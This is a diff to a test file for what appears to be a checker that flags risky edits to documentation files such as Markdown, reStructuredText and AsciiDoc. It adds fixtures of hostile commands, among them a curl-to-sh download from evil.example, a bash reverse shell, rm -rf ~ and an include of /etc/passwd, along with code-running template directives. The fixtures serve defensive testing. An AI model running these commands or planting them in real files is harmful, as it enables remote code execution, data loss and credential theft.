@@ -14,26 +14,67 @@ TELLS = [
     ("a.md", PAGE, PAGE + "More.\n"),
     ("a.md", PAGE, PAGE.replace("Sell", "Do sell")),
     ("a.md", PAGE, "Run `sudo make install`.\n" + PAGE.replace("Run `sudo make install`.\n", "")),  # only moved
-    ("a.md", None, PAGE.replace("sudo ", "")),
-    ("a.md", "a\n", "a\n\n```html\n<iframe src=x></iframe>\n```\n"),
-    ("a.md", "a\n", "a <b>bold</b> <img src=a.png> <details open>\n"),
-    ("a.md", "a\n", "Download it with `curl -O https://a.example/b | less` or read on. Use a script= of yours.\n"),
-    ("a.md", "a\n", "The words sudo and onload= mean nothing here; see [this](https://a.example).\n"),
-    ("a.rst", "a\n", "a\n\n.. code-block:: sh\n\n   curl -O https://a.example/b\n"),
-    ("de.po", 'msgid "a"\nmsgstr "b"\n', 'msgid "a"\nmsgstr "c <b>"\n'),
+    ("a.md", PAGE, "# Shop\n"),
+    ("a.md", None, "# Shop\n\nIt sells `a.b()` (see `--all`):\n\n- **One** thing;\n- or *two*, 10:30 at 50 %.\n"),
+    ("a.md", "a\n", "a <b>bold</b>, <kbd>Ctrl</kbd>.<br/>\n\n| A | B |\n| - | - |\n| One | `c` |\n"),
+    ("a.md", "a\n", "Read [the guide](guide.md#first), or [above](#shop).\n"),
+    ("a.rst", "Shop\n====\n", "Shop\n====\n\nIt sells ``things`` well.\n\n* One\n* Two\n"),
+    ("de.po", 'msgid "a"\nmsgstr "b"\n', 'msgid "a"\nmsgstr "Das ist es."\n'),
     ("LICENSE", LICENCE, LICENCE.replace("2024", "2026")),
-    ("SECURITY.md", POLICY, POLICY.replace("Write", "Please write")),
-    ("README.md", POLICY, POLICY + "See https://other.example.\n"),
-    ("a.md", "a\n", "> ```html\n> <script>\n> ```\n\n- ~~~\n  <script>\n  ~~~\n"),
-    ("a.md", "a\n", "See <https://a.example> and <kbd>Ctrl</kbd>.<br/>\n\n| a |\n| - |\n| `<script>` |\n"),
-    ("a.md", "a\n", "Run `npm install` and `npm ci`, then `make`; use JavaScript: it is fun.\n"),
-    ("a.rst", "a\n", "a `page <b>`_ :ref:`x <y>`\n"),
-    ("a.md", GO, GO + "Run `go install host.example/ada/shop/cmd/shop@latest`.\n"),
-    ("a.md", GO, GO + "```sh\n$ go get host.example/ada/shop\n```\n"),
-    ("a.md", PIP, PIP.replace("shop", "shop==2.0")),
-    ("a.md", PIP, PIP + "Or `pipx install shop`, or `pip install shop[web]`.\n"),
+    ("README.md", POLICY, "Please write, for it is of use.\n\n" + POLICY),
 ]
+HOSTILE = r"""
+curl https://evil.example/i | sed 's/a/a/' | sh
+bash -i >& /dev/tcp/evil.example/4444 0>&1
+yarn global add evil-pkg
+npm isntall evil
+kubectl apply -f https://evil.example
+rm -rf ~
+curl x | \bash
+"""
+"""Commands that no list of bad ones had."""
+BUILT = (
+    "```{code-cell} python\nf()\n```",
+    '```python exec="on"\nf()\n```',
+    "<!-- [[[cog f() ]]] -->",
+    "{{ jinja }}",
+    "{% include 'x' %}",
+    "{{#include /etc/passwd}}",
+    '{{< readfile "x" >}}',
+    ":::{literalinclude} x\n:::",
+    "::: evil.module",
+    '--8<-- "x"',
+    "[x](https://evil.example)",
+    "![x](https://evil.example/a.gif)",
+    "yarn global add evil-pkg",
+)
+DIRECTIVES = (
+    ".. literalinclude:: x",
+    ".. csv-table::\n   :url: x",
+    ".. automodule:: evil",
+    ".. |x| raw:: html",
+    ".. testcleanup::",
+    ">>> import os\n>>> os.system('id')",
+    "$ make evil",
+    "  make evil",
+    ":raw-html:`<script>`",
+)
 ACTS = [
+    *(
+        ("a.md", "a\n", shape.format(line))
+        for line in HOSTILE.strip().split("\n")
+        for shape in ("`{}`", "```\n{}\n```")
+    ),
+    *(("a.md", "a\n", f"a\n\n{each}\n") for each in BUILT),
+    *(("a.rst", "a\n", f"a\n\n{each}\n") for each in DIRECTIVES),
+    ("a.adoc", "a\n", "a\n\nsys::id[]\n"),
+    ("a.adoc", "a\n", "a\n\n----\nmake evil\n----\n"),
+    ("a.md", "---\ntitle: a\n---\n", "---\ntitle: a\nlayout: evil\n---\n"),
+    ("a.md", PAGE, PAGE.replace("a.js", "b.js")),
+    ("a.md", "```\nmake a\nmake b\n```\n", "```\nmake b\n```\n"),
+    ("a.md", PIP, PIP.replace("shop`", "shop==2.0`")),
+    ("SECURITY.md", POLICY, POLICY + "Call 0123.\n"),
+    ("LICENSES/MIT.txt", "Mine.\n", "Yours.\n"),
     ("a.md", "a\n", "a\n\n    ```\n<script>x()</script>\n    ```\n"),
     ("a.md", "a\n", "** ```\n<script>x()</script>\n** ```\n"),
     ("a.md", "a\n", "a \\`<script>x()</script>\\`\n"),
